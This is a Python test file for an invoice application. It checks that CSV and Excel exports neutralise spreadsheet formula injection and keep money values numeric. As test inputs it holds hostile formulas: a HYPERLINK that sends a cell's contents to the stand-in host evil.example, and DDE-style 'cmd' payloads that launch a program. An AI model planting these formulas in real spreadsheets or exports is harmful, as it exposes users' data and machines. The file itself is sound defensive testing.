"""Formula injection: text a spreadsheet would run (``=HYPERLINK(...)``, ``+cmd|…``,
``@SUM``, ``-2+3``) is neutralised in every .xlsx/.csv export, while money
stays numeric (a red amount is a negative number, not text) and an export
still imports back to the same values.

Before the fix a buyer name ``=HYPERLINK("http://evil.example/?x="&A1,"click")``
imported from CSV was written into invoices.xlsx and customers.xlsx as a
formula cell (openpyxl turns any string starting with ``=`` into one).
"""
from __future__ import annotations

import io
from decimal import Decimal

import openpyxl
import pytest

from fapiao.services.actors import Actor
from fapiao.services.classification_export import to_xlsx
from fapiao.services.exports import export_customers, export_invoices, neutralise_formula
from fapiao.services.imports import import_customers, import_invoices
from fapiao.services.tables import CUSTOMER_HEADERS, cell_text, read_table
from store.repos.invoices import InvoiceFilter
from tests.services.factories import BUYER_TAX_ID, SELLER_TAX_ID, digital_number, uscc

CLERK = Actor(user_id=None, name="clerk", role="clerk")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value, expected", [
    (HYPERLINK, "'" + HYPERLINK), ("+1+1", "'+1+1"), ("-A1", "'-A1"), ("@x", "'@x"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("深圳市甲乙科技有限公司", "深圳市甲乙科技有限公司"), ("a=b", "a=b"),
    ("-1356.00", "-1356.00"), ("+12", "+12"), (Decimal("-1356.00"), Decimal("-1356.00")), (-5, -5), (None, None),
])
def test_neutralise_formula(value, expected) -> None:
    assert neutralise_formula(value) == expected


def _no_formulas(data: bytes) -> list[list[object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert not formulas, formulas
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    for row in rows:
        for value in row:
            if isinstance(value, str) and value.startswith(TRIGGERS):
                assert cell_text(value, None).lstrip("+-").replace(".", "").isdigit(), value
    return rows


def _csv(rows: list[list[str]]) -> bytes:
    return "\n".join(",".join('"' + c.replace('"', '""') + '"' for c in row) for row in rows).encode("utf-8")


def test_invoice_and_customer_exports_hold_no_formulas_and_money_stays_numeric(runtime) -> None:
    header = ["发票号码", "开票日期", "购买方名称", "纳税人识别号", "销售方名称", "销售方纳税人识别号", "金额", "税额",
              "价税合计", "备注", "是否红字", "原发票号码", "确认单编号"]
    rows = [header]
    for index, text in enumerate(HOSTILE):
        rows.append([digital_number(index + 1), "2024-03-15", text, BUYER_TAX_ID, "上海丙丁贸易有限公司", SELLER_TAX_ID,
                     "100.00", "13.00", "113.00", text, "否", "", ""])
    rows.append([digital_number(50), "2024-04-01", HOSTILE[0], BUYER_TAX_ID, "上海丙丁贸易有限公司", SELLER_TAX_ID,
                 "-100.00", "-13.00", "-113.00", "", "是", digital_number(1), "4403012403000123"])
    report = import_invoices(runtime, _csv(rows), "evil.csv", actor=CLERK)
    assert report.summary["imported"] == len(HOSTILE) + 1, [(r.row, r.status, r.errors) for r in report.rows][-3:]
    customers = [["客户编号", "客户名称", "统一社会信用代码", "别名"],
                 ["=1+1", HYPERLINK, uscc("91110108700000001"), "@SUM(A1)；正常别名"]]
    assert import_customers(runtime, _csv(customers), "c.csv", actor=CLERK).summary["imported"] == 1
    with runtime.read() as session:
        invoices_xlsx = export_invoices(session, InvoiceFilter())
        customers_xlsx = export_customers(session)

    exported = _no_formulas(invoices_xlsx)
    head = exported[0]
    buyer, money = head.index("购买方名称"), head.index("价税合计")
    # (the import strips the tab/CR: "\t=1+1" is stored as "=1+1")
    assert sorted(r[buyer] for r in exported[1:]) == sorted(["'" + t.strip() for t in HOSTILE] + ["'" + HYPERLINK])
    amounts = sorted(r[money] for r in exported[1:])
    assert amounts[0] == -113 and all(isinstance(a, (int, float)) for a in amounts)  # numbers, not text
    customer_rows = _no_formulas(customers_xlsx)
    assert customer_rows[1][:2] == ["'=1+1", "'" + HYPERLINK]

    # the export imports back to the very same text (the apostrophe is ours, and removed)
    table = read_table(customers_xlsx, "customers.xlsx", CUSTOMER_HEADERS, required=("name",))
    (_, raw), = table.rows
    fields = {name: cell_text(raw[i], name) for i, name in table.fields.items()}
    assert fields["name"] == HYPERLINK and fields["code"] == "=1+1"


def test_classification_tables_hold_no_formulas_and_money_stays_numeric() -> None:
    table = ("运行1-金额", ["客户记录编号", "客户编号", "客户名称", "分群", "窗口内净额", "说明"],
             [[1, "=1+1", HYPERLINK, "高", "-1356.00", "@evil"], [2, "C2", "正常公司", "低", Decimal("12.50"), "ok"]])
    rows = _no_formulas(to_xlsx(table))
    assert rows[1] == [1, "'=1+1", "'" + HYPERLINK, "高", -1356, "'@evil"]
    assert rows[2][4] == 12.5
